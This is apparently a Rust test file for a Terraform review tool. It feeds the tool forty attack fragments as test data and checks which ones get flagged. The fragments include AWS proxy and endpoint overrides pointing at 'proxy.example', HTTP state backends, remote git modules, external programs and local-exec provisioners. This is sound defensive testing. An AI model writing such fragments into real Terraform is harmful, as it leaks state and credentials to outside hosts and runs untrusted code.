//! Attacks through files that are not generated, each with what is admitted beside it.

use super::*;
use crate::modules;
use crate::service::Service;

const DEMO: &str = include_str!("../../../portcullis.toml");

fn demo() -> (Service, Tree) {
    let service = crate::service(DEMO, None).unwrap();
    let files = modules::all(&service);
    let files = files.iter().filter(|(path, _)| is_terraform(path));
    let tree = files.map(|(path, text)| (path.to_owned(), text.into())).collect();
    (service, tree)
}

fn findings(service: &Service, tree: &Tree) -> Vec<Finding> {
    super::findings(&modules::all(service), tree)
}

/// The addresses of what is found in a file beside the generated ones.
fn found(path: &str, text: &str) -> Vec<String> {
    let (service, mut tree) = demo();
    tree.insert(path.into(), text.into());
    let start = format!("terraform/{path}");
    findings(&service, &tree)
        .into_iter()
        .map(|finding| {
            let of = finding.of();
            let rest = of.strip_prefix(&start);
            let rest = rest.unwrap_or_else(|| panic!("{finding:?} is not in {start}"));
            rest.strip_prefix(": ").unwrap_or("the file").into()
        })
        .collect()
}

/// Of Terraform's documentation: <https://developer.hashicorp.com/terraform/language/providers/configuration>,
/// <https://registry.terraform.io/providers/hashicorp/aws/latest/docs#argument-reference>,
/// <https://developer.hashicorp.com/terraform/language/files/override>,
/// <https://developer.hashicorp.com/terraform/language/modules/sources>.
const ATTACKS: [(&str, &str, &[&str]); 40] = [
    // An attack: every call goes to a stranger's proxy.
    (
        "environments/local/z_override.tf",
        "provider \"aws\" {\n  http_proxy = \"http://proxy.example\"\n  endpoints {\n    lambda = \"http://x.example\"\n  }\n}\n",
        &["provider.aws"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  alias = \"other\"\n  profile = \"x\"\n}\n",
        &["provider.aws.other"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  assume_role {\n    role_arn = \"x\"\n  }\n}\n",
        &["provider.aws"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  insecure = true\n  custom_ca_bundle = \"x\"\n}\n",
        &["provider.aws"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  skip_requesting_account_id = true\n}\n",
        &["provider.aws"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  shared_credentials_files = [\"x\"]\n}\n",
        &["provider.aws"],
    ),
    (
        "environments/dev/z.tf",
        "provider \"aws\" {\n  ignore_tags {\n    keys = [\"Service\"]\n  }\n}\n",
        &["provider.aws"],
    ),
    ("modules/own/z.tf", "provider \"aws\" {}\n", &["provider.aws"]),
    (
        "environments/dev/z.tf",
        "provider \"http\" {}\n",
        &["provider.http"],
    ),
    // The state goes elsewhere.
    (
        "environments/dev/z.tf",
        "terraform {\n  backend \"http\" {\n    address = \"http://x.example\"\n  }\n}\n",
        &["terraform.backend.http"],
    ),
    (
        "environments/dev/z.tf",
        "terraform {\n  cloud {\n    organization = \"x\"\n  }\n}\n",
        &["terraform.cloud"],
    ),
    (
        "environments/dev/override.tf",
        "terraform {\n  backend \"local\" {}\n}\n",
        &["terraform"],
    ),
    // Other programs are downloaded and run.
    (
        "modules/own/versions.tf",
        "terraform {\n  required_providers {\n    aws = {\n      source = \"example/aws\"\n    }\n  }\n}\n",
        &["terraform.required_providers.aws"],
    ),
    (
        "modules/own/versions.tf",
        "terraform {\n  required_providers {\n    aws = { (\"source\") = \"example/aws\" }\n    x = \"1.0\"\n  }\n}\n",
        &[
            "terraform.required_providers.aws",
            "terraform.required_providers.x",
        ],
    ),
    (
        "modules/own/versions.tf",
        "terraform {\n  required_providers {\n    random = { source = \"hashicorp/aws\" }\n  }\n}\n",
        &["terraform.required_providers.random"],
    ),
    (
        "modules/own/versions.tf",
        "terraform {\n  experiments = [x]\n  provider_meta \"aws\" {}\n}\n",
        &["terraform.provider_meta.aws", "terraform.experiments"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"git::https://example.com/x.git\"\n}\n",
        &["module.x"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"terraform-aws-modules/lambda/aws\"\n  version = \"1.0\"\n}\n",
        &["module.x"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"../../../elsewhere\"\n}\n",
        &["module.x"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"./.terraform/x\"\n}\n",
        &["module.x"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"${var.x}\"\n}\n",
        &["module.x"],
    ),
    (
        "environments/dev/z.tf",
        "module \"x\" {\n  source = \"/tmp/x\"\n}\n",
        &["module.x"],
    ),
    // A program runs, in the plan or in the apply.
    (
        "environments/dev/z.tf",
        "data \"external\" \"x\" {\n  program = [\"sh\"]\n}\n",
        &["data.external.x"],
    ),
    (
        "environments/dev/z.tf",
        "data \"http\" \"x\" {\n  url = \"http://x.example\"\n}\n",
        &["data.http.x"],
    ),
    (
        "environments/dev/z.tf",
        "check \"x\" {\n  data \"http\" \"y\" {\n    url = \"http://x.example\"\n  }\n}\n",
        &["check.x.data.http.y"],
    ),
    (
        "environments/dev/z.tf",
        "data \"aws_lambda_invocation\" \"x\" {}\n",
        &["data.aws_lambda_invocation.x"],
    ),
    (
        "environments/dev/z.tf",
        "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n}\n",
        &["data.terraform_remote_state.x"],
    ),
    (
        "environments/dev/z.tf",
        "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"x\"\n  }\n}\n",
        &["null_resource.x.provisioner.local-exec", "null_resource.x"],
    ),
    (
        "environments/dev/z.tf",
        "resource \"terraform_data\" \"x\" {\n  provisioner \"remote-exec\" {}\n}\n",
        &["terraform_data.x.provisioner.remote-exec"],
    ),
    (
        "environments/dev/z.tf",
        "removed {\n  from = aws_sqs_queue.x\n  provisioner \"local-exec\" {\n    when = destroy\n  }\n}\n",
        &["removed.provisioner.local-exec"],
    ),
    (
        "environments/dev/z.tf",
        "action \"aws_lambda_invoke\" \"x\" {}\n",
        &["action.aws_lambda_invoke.x"],
    ),
    (
        "environments/dev/z.tf",
        "resource \"aws_sqs_queue\" \"x\" {\n  provider = other.aws\n}\n",
        &["aws_sqs_queue.x"],
    ),
    // The same in JSON, also behind a key that stands twice.
    (
        "environments/dev/z.tf.json",
        r#"{ "provider": [{ "aws": { "http_proxy": "x" } }], "provider": {} }"#,
        &["provider.aws"],
    ),
    (
        "environments/dev/z_override.tf.json",
        r#"{ "resource": { "aws_lambda_function": { "this": {} } } }"#,
        &["aws_lambda_function.this"],
    ),
    (
        "environments/dev/z.tf.json",
        r#"{ "resource": { "terraform_data": { "x": { "provisioner": [{ "local-exec": { "command": "x" } }] } } } }"#,
        &["terraform_data.x.provisioner.local-exec"],
    ),
    // Files that only OpenTofu reads, unreadable files, and unknown blocks.
    (
        "environments/dev/providers.tofu",
        "provider \"aws\" {}\nlocals {}\n",
        &["provider.aws", "locals"],
    ),
    ("environments/dev/z.tf", "provider \"aws\" {", &["the file"]),
    (
        "environments/dev/z.tf",
        "x = 1\nencryption {}\n",
        &["encryption", "x"],
    ),
    (
        "modules/service/tests/z.tftest.hcl",
        "provider \"aws\" {}\nrun \"x\" {\n  module {\n    source = \"git::https://x.example\"\n  }\n}\n",
        &["provider.aws", "run.x.module"],
    ),
    // A file is not generated because it claims so.
    (
        "environments/dev/z.tf",
        "# Generated by Portcullis from portcullis.toml. Edit that, then run `portcullis generate`.\n\nprovider \"aws\" {\n  http_proxy = \"x\"\n}\n",
        &["provider.aws"],
    ),
];

#[test]
fn what_decides_where_terraform_connects_or_what_it_runs_is_found_by_its_address() {
    for (path, text, expected) in ATTACKS {
        assert_eq!(found(path, text), expected, "{path}\n{text}");
    }
}

#[test]
fn ordinary_files_are_admitted() {
    for (path, text) in [
        (
            "environments/dev/own.tf",
            "resource \"aws_sqs_queue\" \"jobs\" {\n  name = \"jobs\"\n}\n\ndata \"aws_caller_identity\" \"me\" {}\n\nlocals {\n  x = \
             data.aws_caller_identity.me.account_id\n}\n\nvariable \"x\" {}\n\noutput \"x\" {\n  value = local.x\n}\n\nmoved {\n  \
             from = aws_sqs_queue.a\n  to = aws_sqs_queue.jobs\n}\n\nresource \"terraform_data\" \"y\" {}\n",
        ),
        (
            "modules/own/main.tf",
            "terraform {\n  required_version = \">= 1.12\"\n\n  required_providers {\n    aws = {\n      source  = \
             \"hashicorp/aws\"\n      version = \">= 6\"\n    }\n  }\n}\n\nmodule \"other\" {\n  source = \
             \"../user\"\n}\n\nmodule \"same\" {\n  source = \"../own/.\"\n}\n",
        ),
        (
            "environments/dev/own.tf.json",
            r#"{ "//": "x", "resource": { "aws_sqs_queue": { "jobs": { "name": "jobs" } } } }"#,
        ),
        (
            "modules/service/tests/own.tftest.hcl",
            "mock_provider \"aws\" {}\n\nrun \"x\" {\n  module {\n    source = \"./../user\"\n  }\n}\n",
        ),
        ("environments/dev/zoverride.tf", "locals {}\n"),
        ("environments/dev/README.md", "provider \"aws\" {}\n"),
    ] {
        assert_eq!(found(path, text), [""; 0], "{path}\n{text}");
    }
}

#[test]
fn of_an_edited_generated_file_only_the_edit_is_found() {
    let (service, tree) = demo();
    assert_eq!(findings(&service, &tree), []);
    for (path, file) in &tree {
        let text = file.text().unwrap();
        assert_eq!(found(path, &format!("{text}\n# A remark\n")), [""; 0], "{path}");
    }
    let providers = "environments/local/providers.tf";
    let text = tree[providers]
        .text()
        .unwrap()
        .replace("  region", "  http_proxy = \"x\"\n  region");
    assert_eq!(found(providers, &text), ["provider.aws"]);
    let versions = "environments/dev/versions.tf";
    let text = tree[versions]
        .text()
        .unwrap()
        .replace("terraform {", "terraform {\n  backend \"http\" {}\n");
    assert_eq!(found(versions, &text), ["terraform.backend.http"]);
    let main = "environments/dev/main.tf";
    let text = tree[main]
        .text()
        .unwrap()
        .replace("../../modules/service", "../../../x");
    assert_eq!(found(main, &text), ["module.service"]);
    let (service, mut tree) = demo();
    tree.insert(main.into(), text.into());
    assert_eq!(
        findings(&service, &tree)[0].sentence(),
        "`module.service` in `terraform/environments/dev/main.tf` **uses a module** that this review doesn't cover, from \
         `../../../x`, and `portcullis generate` undoes it"
    );
}

#[test]
fn links_and_what_terraform_takes_for_installed_are_found_by_their_paths() {
    let (service, mut tree) = demo();
    tree.insert("modules/own".into(), TreeFile::Link);
    tree.insert("environments/dev/terraform.d".into(), TreeFile::Installed);
    tree.insert(
        "environments/dev/z.tf".into(),
        "module \"own\" {\n  source = \"../../modules/own\"\n}\n".into(),
    );
    let found: Vec<String> = findings(&service, &tree)
        .into_iter()
        .map(|finding| finding.of())
        .collect();
    assert_eq!(
        found,
        [
            "terraform/environments/dev/terraform.d",
            "terraform/environments/dev/z.tf: module.own",
            "terraform/modules/own",
        ]
    );
}
